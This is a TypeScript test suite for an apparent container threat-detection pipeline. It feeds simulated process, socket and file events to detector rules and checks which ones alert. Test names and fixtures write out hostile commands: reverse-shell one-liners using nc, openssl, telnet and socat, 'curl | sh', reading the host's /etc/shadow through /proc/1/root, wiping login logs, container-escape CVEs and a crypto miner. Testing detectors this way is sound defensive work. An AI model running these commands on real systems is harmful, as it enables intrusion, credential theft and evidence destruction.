import assert from "node:assert/strict";
import { test } from "node:test";
import type { AgentRecord, Alert, Container } from "@bulwark/model";
import type { SensorRecord } from "@bulwark/sensor";
import { sampleContainer } from "@bulwark/testkit";
import { pipe, story, terminal, unix, type Story } from "./cases.ts";
import { createDetectors } from "./detectors/index.ts";
import { Pipeline } from "./pipeline.ts";

const plain: Partial<Container> = { id: "c1", pid: 10, privileged: false, hostNamespaces: [], mounts: [] };

function alertsOf(records: SensorRecord[], change: Partial<Container> = {}): Alert[] {
  const container = sampleContainer(1, { ...plain, ...change });
  const out: AgentRecord[] = [];
  const pipeline = new Pipeline({
    node: "n",
    run: "r",
    detectors: createDetectors(),
    ownerOf: () => ({ attribution: "container", container }),
    host: false,
    epoch: Number,
    now: () => 1_000_000,
    emit: (emitted) => out.push(...emitted),
    missingOwner() {},
  });
  pipeline.push(records);
  return out.flatMap((item) => (item.type === "alert" ? [item.alert] : []));
}

const evil = ["198.51.100.9", 4444] as const;
const bash = "/bin/bash -i";
const file = (
  operation: "write" | "remove" | "rename" | "read" | "truncate" | "execute",
  path: string,
  newPath = "",
) => {
  return { type: "file", operation, path, newPath, isDirectory: false, inode: 1n } as const;
};
const setting = (name: string, value = "x") => ({ type: "setting", operation: "write", name, value }) as const;
const block = { type: "device", kind: "block", major: 254, minor: 0, access: ["read"] } as const;
const shadowUnix = (path: string) => {
  return {
    type: "socket",
    operation: "connect",
    family: 1,
    kind: 1,
    protocol: 0,
    local: null,
    remote: null,
    path,
  } as const;
};

type Tell = (s: Story) => SensorRecord[];

/** Each technique with the rule that tells of it. */
const fires: [what: string, rule: string, tell: Tell, change?: Partial<Container>][] = [
  [
    "mkfifo f; sh -i <f 2>&1 | nc host port >f",
    "relayed-shell",
    (s) => [
      s.exec(9, "/bin/sh -c x"),
      s.fork(9, 10),
      s.exec(10, bash, { stdio: [pipe(0, 1), pipe(1, 2), pipe(2, 2)] }),
      s.fork(9, 11),
      s.exec(11, "/bin/nc host 4444", { stdio: [pipe(0, 2), pipe(1, 1), pipe(2, 9)] }),
      s.connect(11, ...evil),
    ],
  ],
  [
    "cat f | sh -i 2>&1 | openssl s_client >f",
    "relayed-shell",
    (s) => [
      s.exec(12, "/bin/cat /tmp/f", { stdio: [pipe(0, 8), pipe(1, 1), pipe(2, 9)] }),
      s.exec(13, "/bin/cat /tmp/f", { stdio: [pipe(0, 3), pipe(1, 1), pipe(2, 9)] }),
      s.exec(10, bash, { stdio: [pipe(0, 1), pipe(1, 2), pipe(2, 2)] }),
      s.exec(11, "/usr/bin/openssl s_client", { stdio: [pipe(0, 2), pipe(1, 3), pipe(2, 9)] }),
      s.connect(11, ...evil),
    ],
  ],
  [
    "telnet host 1 | sh | telnet host 2",
    "relayed-shell",
    (s) => [
      s.exec(11, "/usr/bin/telnet host 1", { stdio: [pipe(0, 8), pipe(1, 1), pipe(2, 9)] }),
      s.connect(11, ...evil),
      s.exec(12, "/usr/bin/telnet host 2", { stdio: [pipe(0, 2), pipe(1, 8), pipe(2, 9)] }),
      s.connect(12, ...evil),
      s.exec(10, "/bin/sh", { stdio: [pipe(0, 1), pipe(1, 2), pipe(2, 9)] }),
    ],
  ],
  [
    "python: pty.spawn after a connection",
    "relayed-shell",
    (s) => [
      s.exec(11, "/usr/bin/python3 -c x"),
      s.connect(11, ...evil),
      s.fork(11, 10),
      s.exec(10, "/bin/bash", { stdio: [terminal(0), terminal(1), terminal(2)] }),
    ],
  ],
  [
    "socat with a socket pair, which connects after it started the shell",
    "relayed-shell",
    (s) => [
      s.exec(11, "/usr/bin/socat tcp:host:1 exec:sh"),
      s.fork(11, 10),
      s.exec(10, "/bin/sh", { stdio: [unix(0), unix(1), unix(2)] }),
      s.connect(11, ...evil),
    ],
  ],
  [
    "mount of a disk",
    "host-file-system",
    (s) => [s.exec(10, "/bin/a"), s.call(10, "mount", ["/dev/vda1", "/mnt", "ext4"])],
  ],
  [
    "mount of a cgroup",
    "host-file-system",
    (s) => [s.exec(10, "/bin/a"), s.call(10, "mount", ["x", "/mnt", "cgroup"])],
  ],
  ["the new calls", "host-file-system", (s) => [s.exec(10, "/bin/a"), s.call(10, "fsopen", ["ext4"])]],
  ["a disk that is read", "host-device", (s) => [s.exec(10, "/bin/a"), s.does(10, { ...block, access: ["read"] })]],
  ["nsenter", "namespace-entry", (s) => [s.exec(10, "/usr/bin/nsenter"), s.call(10, "setns")]],
  [
    "CVE-2024-21626",
    "foreign-root",
    (s) => [s.exec(10, "/bin/sh", { workingDirectory: "(unreachable)/sys/fs/cgroup" })],
  ],
  [
    "CVE-2019-5736",
    "foreign-root",
    (s) => [s.exec(10, "/x", { executable: "(unreachable)/usr/sbin/runc", filename: "/proc/self/exe" })],
  ],
  ["Docker's socket", "runtime-socket", (s) => [s.exec(10, "/bin/a"), s.does(10, shadowUnix("/var/run/docker.sock"))]],
  [
    "CVE-2020-15257",
    "runtime-socket",
    (s) => [s.exec(10, "/bin/a"), s.does(10, shadowUnix("@/containerd-shim/k8s.io/x.sock"))],
  ],
  [
    "the root of a process of the host",
    "other-process",
    (s) => [s.exec(10, "/bin/a"), s.call(10, "openat", [null, "/proc/1/root/etc/shadow"], { capability: 19 })],
  ],
  [
    "writing another's memory",
    "other-process",
    (s) => [s.exec(10, "/bin/a"), s.call(10, "ptrace", [], { capability: 19 })],
  ],
  [
    "a module, refused",
    "kernel-tampering",
    (s) => [s.exec(10, "/bin/a"), s.call(10, "finit_module", [], { granted: false })],
  ],
  [
    "shocker",
    "kernel-tampering",
    (s) => [s.exec(10, "/bin/a"), s.call(10, "open_by_handle_at", [], { capability: 2 })],
  ],
  ["core_pattern", "kernel-setting", (s) => [s.exec(10, "/bin/a"), s.does(10, setting("kernel/core_pattern", "|/x"))]],
  [
    "a release agent",
    "kernel-helper",
    (s) => [s.exec(10, "/var/lib/docker/overlay2/a/diff/cmd", { kernelParent: true })],
  ],
  ["privileged", "privileged-start", (s) => [s.exec(10, "/bin/a")], { privileged: true }],
  [
    "the host's root folder",
    "privileged-start",
    (s) => [s.exec(10, "/bin/a")],
    { mounts: [{ source: "/", target: "/host", type: "bind", readOnly: false }] },
  ],
  [
    "a user who is root all at once",
    "credential-gain",
    (s) => [
      s.exec(10, "/bin/a", { uid: 1000, effectiveUid: 1000, savedUid: 1000 }),
      s.fork(10, 11, { uid: 0, effectiveUid: 0, savedUid: 0 }),
      s.exec(11, "/bin/sh", { uid: 0, effectiveUid: 0, savedUid: 0 }),
    ],
  ],
  [
    "capabilities that nothing gave",
    "credential-gain",
    (s) => [
      s.exec(10, "/bin/a", { uid: 7, effectiveUid: 7, savedUid: 7 }),
      s.call(10, "mount", [], { uid: 7, effectiveUid: 7, savedUid: 7, capabilities: 1n << 21n }),
    ],
  ],
  [
    "a web server's shell",
    "server-child",
    (s) => [s.exec(9, "/usr/sbin/nginx"), s.fork(9, 10), s.exec(10, "/bin/sh -c id")],
  ],
  ["a miner by its pool", "miner", (s) => [s.exec(10, "/tmp/kworker -o stratum+tcp://pool:3333 -u x")]],
  ["the log of logins", "log-removal", (s) => [s.exec(10, "/bin/rm"), s.does(10, file("remove", "/var/log/wtmp"))]],
  [
    "a log that is emptied",
    "log-removal",
    (s) => [s.exec(10, "/bin/sh"), s.does(10, file("truncate", "/var/log/auth.log"))],
  ],
  [
    "a script that was written here",
    "drift",
    (s) => [
      s.exec(9, "/bin/sh"),
      s.does(9, file("write", "/tmp/x.sh")),
      s.exec(10, "/bin/sh ./x.sh", { filename: "./x.sh", interpreter: "/bin/sh", workingDirectory: "/tmp" }),
    ],
  ],
  [
    "a library that was written here",
    "drift",
    (s) => [
      s.exec(8, "/usr/bin/curl"),
      s.does(8, file("write", "/tmp/x.tmp")),
      s.exec(9, "/bin/mv"),
      s.does(9, file("rename", "/tmp/x.tmp", "/tmp/x.so")),
      s.exec(10, "/usr/bin/id"),
      s.does(10, file("execute", "/tmp/x.so")),
    ],
  ],
  [
    "a library that a shell wrote, for what it starts and for itself",
    "drift",
    (s) => [
      s.exec(10, "/bin/bash"),
      s.does(10, file("write", "/tmp/x.so")),
      s.does(10, file("execute", "/tmp/x.so")),
      s.fork(10, 11),
      s.exec(11, "/usr/bin/id"),
      s.does(11, file("execute", "/tmp/x.so")),
    ],
  ],
  [
    "a library that was written under another name",
    "drift",
    (s) => [s.exec(10, "/usr/bin/id"), s.does(10, { ...file("execute", "/srv/x.so"), wasWritten: true })],
  ],
  ["a flood", "flood", (s) => [s.exec(10, "/bin/a"), s.does(10, { type: "flood", passedOver: 12n })]],
];
for (const [what, rule, tell, change] of fires) {
  test(`${rule}: ${what}`, () => {
    const rules = alertsOf(tell(story()), change).map((alert) => alert.rule);
    assert.deepEqual(rules, [rule]);
  });
}

/** Ordinary work, in which nothing fires. */
const quiet: Record<string, Tell> = {
  "kubectl exec with a terminal": (s) => [
    s.fork(9, 10),
    s.exec(10, "/bin/bash", { stdio: [terminal(0), terminal(1), terminal(2)] }),
  ],
  "kubectl exec in a container whose main program is connected": (s) => [
    s.exec(8, "/usr/bin/node server.js"),
    s.connect(8, ...evil),
    s.fork(9, 10),
    s.exec(10, "/bin/sh", { stdio: [terminal(0), terminal(1), terminal(2)] }),
  ],
  "a backup piped to the network": (s) => [
    s.exec(9, "/bin/sh backup.sh"),
    s.fork(9, 10),
    s.exec(10, "/bin/tar c /data", { stdio: [pipe(0, 5), pipe(1, 1), pipe(2, 9)] }),
    s.fork(9, 11),
    s.exec(11, "/usr/bin/nc backup 9000", { stdio: [pipe(0, 1), pipe(1, 6), pipe(2, 9)] }),
    s.connect(11, ...evil),
  ],
  "curl … | sh, which is another matter": (s) => [
    s.exec(11, "/usr/bin/curl https://x", { stdio: [pipe(0, 8), pipe(1, 1), pipe(2, 9)] }),
    s.connect(11, ...evil),
    s.exec(10, "/bin/sh", { stdio: [pipe(0, 1), pipe(1, 9), pipe(2, 9)] }),
  ],
  "an application that runs a command with pipes": (s) => [
    s.exec(9, "/usr/bin/python3 app.py"),
    s.connect(9, ...evil),
    s.fork(9, 10),
    s.exec(10, "/bin/sh -c date", { stdio: [pipe(0, 1), pipe(1, 2), pipe(2, 3)] }),
  ],
  "sshd gives a shell": (s) => [
    s.exec(9, "/usr/sbin/sshd"),
    s.connect(9, ...evil),
    s.fork(9, 10),
    s.exec(10, "/bin/bash -l", { stdio: [terminal(0), terminal(1), terminal(2)] }),
  ],
  sudo: (s) => [
    s.exec(9, "/bin/bash", { uid: 7, effectiveUid: 7, savedUid: 7 }),
    s.fork(9, 10, { uid: 7, effectiveUid: 7, savedUid: 7 }),
    s.exec(10, "/usr/bin/sudo id", { uid: 7, gainsRights: true }),
    s.exec(10, "/usr/bin/id", { uid: 0 }),
  ],
  "a server that gives up being root, and takes it back by its saved id": (s) => [
    s.exec(9, "/usr/sbin/vsftpd"),
    s.call(9, "setresuid", [], { effectiveUid: 7 }),
    s.call(9, "unshare", [], { effectiveUid: 0, userNamespace: 5 }),
  ],
  "a new cluster of PostgreSQL asks for the collations of the system": (s) => [
    s.exec(9, "/usr/lib/postgresql/15/bin/postgres --boot"),
    s.fork(9, 10),
    s.exec(10, "/bin/sh", { arguments: ["sh", "-c", "locale -a"] }),
  ],
  "nginx and its workers": (s) => [s.exec(9, "/usr/sbin/nginx"), s.fork(9, 10), s.exec(10, "/usr/sbin/nginx -g x")],
  "proc and tmpfs of one's own": (s) => [
    s.exec(10, "/bin/a"),
    s.call(10, "mount", ["proc", "/proc", "proc"]),
    s.call(10, "mount", ["tmpfs", "/tmp", "tmpfs"]),
  ],
  "settings of the container's own network": (s) => [s.exec(10, "/bin/a"), s.does(10, setting("net/ipv4/ip_forward"))],
  logrotate: (s) => [
    s.exec(10, "/usr/sbin/logrotate"),
    s.does(10, file("rename", "/var/log/syslog", "/var/log/syslog.1")),
  ],
  "what the runtime does to set a container up": (s) => [
    s.fork(9, 10, { executable: "(unreachable)/usr/sbin/runc" }),
    s.call(10, "mount", ["/dev/vda1", "/data", "ext4"]),
    s.call(10, "setns"),
    s.does(10, block as never),
    s.exec(10, "/bin/app"),
  ],
  "Java unpacks a library and loads it, or a program does so for a copy of itself": (s) => [
    s.exec(10, "/usr/bin/java -jar app.jar"),
    s.does(10, file("write", "/tmp/jna1.tmp")),
    s.does(10, file("execute", "/tmp/jna1.tmp")),
    s.fork(10, 11),
    s.does(11, file("execute", "/tmp/jna1.tmp")),
  ],
  "a library that was not written here, as other sensors tell of each": (s) => [
    s.exec(10, "/usr/bin/id"),
    s.does(10, file("execute", "/usr/lib/libz.so.1")),
  ],
  "systemd's core dumps": (s) => [s.exec(10, "/usr/lib/systemd/systemd-coredump", { kernelParent: true })],
};
for (const [what, tell] of Object.entries(quiet)) {
  test(`quiet: ${what}`, () => {
    assert.deepEqual(
      alertsOf(tell(story())).map(({ rule, evidence }) => [rule, evidence]),
      [],
    );
  });
}

test("volumes of a pod are its own, those of another pod are power over that", () => {
  const pod = { name: "web", namespace: "shop", uid: "uid-1", container: "main" };
  const mountOf = (uid: string): Container["mounts"][number] => ({
    source: `/var/lib/kubelet/pods/${uid}/volumes/kubernetes.io~empty-dir/cache`,
    ...{ target: "/cache", type: "bind", readOnly: false },
  });
  const rulesOf = (change: Partial<Container>): string[] => {
    const s = story();
    return alertsOf([s.exec(10, "/bin/a")], change).map(({ rule }) => rule);
  };
  assert.deepEqual(rulesOf({ pod, mounts: [mountOf("uid-1")] }), []);
  for (const uid of ["uid-2", "uid-11", "uid-1/../uid-2"]) {
    assert.deepEqual(rulesOf({ pod, mounts: [mountOf(uid)] }), ["privileged-start"], uid);
  }
  assert.deepEqual(rulesOf({ pod: null, mounts: [mountOf("uid-1")] }), ["privileged-start"]);
  assert.deepEqual(rulesOf({ pod: { ...pod, uid: "" }, mounts: [mountOf("uid-1")] }), ["privileged-start"]);
});

test("what a server does again with other numbers is told once; another command is told, too", () => {
  const s = story();
  const shell = (pid: number, command: string): SensorRecord[] => [
    s.fork(9, pid),
    s.exec(pid, "/bin/sh", { arguments: ["sh", "-c", command] }),
  ];
  const archive = (log: string, pid: number): SensorRecord[] => shell(pid, `cp pg_wal/${log} /archive/${log}`);
  const records = [
    s.exec(9, "/usr/lib/postgresql/15/bin/postgres"),
    ...["0000000100000000000000A1", "0000000100000000000000A2", "0000000200000000000000A2"].flatMap((log, index) =>
      archive(log, 10 + index),
    ),
    ...shell(20, "curl x.test | sh"),
  ];
  const commands = alertsOf(records).map(({ evidence }) => evidence.find(({ key }) => key === "command")?.value);
  assert.deepEqual(commands, [
    "sh -c cp pg_wal/0000000100000000000000A1 /archive/0000000100000000000000A1",
    "sh -c curl x.test | sh",
  ]);
});

test("a detector's memory of processes, pipes and files has a bound", () => {
  const s = story();
  const records: SensorRecord[] = [];
  for (let pid = 100; pid < 60_000; pid++)
    records.push(s.fork(9, pid, { stdio: [pipe(0, pid), pipe(1, pid), pipe(2)] }));
  const before = process.memoryUsage().heapUsed;
  alertsOf(records);
  assert.ok(process.memoryUsage().heapUsed - before < 400e6);
});
